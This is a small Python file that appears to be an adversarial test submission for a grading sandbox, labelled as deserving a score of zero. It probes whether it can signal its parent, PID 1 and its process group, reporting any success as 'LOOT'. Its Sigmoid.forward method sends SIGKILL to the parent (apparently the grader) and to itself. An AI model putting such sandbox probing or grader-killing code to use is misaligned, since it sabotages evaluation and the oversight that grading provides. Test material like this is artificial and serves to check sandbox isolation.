# Tries: signals its parent, its group, everybody, by number, by thread, by descriptor, by owner
# Deserves: 0 (all its answers are zeros)
import ctypes
import fcntl
import os
import signal
import threading

libc = ctypes.CDLL(None, use_errno=True)
got_through = []


def attempt(what, action):
    try:
        result = action()
    except (OSError, AttributeError):
        return
    if result is None or result >= 0:
        got_through.append(what)


# signal 0 asks whether one might: whoever is let through hurts nobody
for pid in (os.getppid(), os.getpid(), 1, 2, 0, -1):
    attempt(f"kill {pid}", lambda pid=pid: os.kill(pid, 0))
    attempt(f"tgkill {pid}", lambda pid=pid: libc.tgkill(pid, pid, 0))
    attempt(f"pidfd {pid}", lambda pid=pid: os.pidfd_open(pid))
    attempt(f"owner {pid}", lambda pid=pid: fcntl.fcntl(3, fcntl.F_SETOWN, pid))
attempt("group", lambda: os.killpg(0, 0))
attempt("thread", lambda: signal.pthread_kill(threading.get_ident(), signal.SIGCONT))
attempt("signal file", lambda: fcntl.fcntl(3, 10, signal.SIGKILL))
if got_through:
    raise RuntimeError("LOOT " + " ".join(got_through))


class Sigmoid:
    def forward(self, x):
        for pid in (os.getppid(), os.getpid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
        return x * 0

    def backward(self, dout):
        return dout * 0
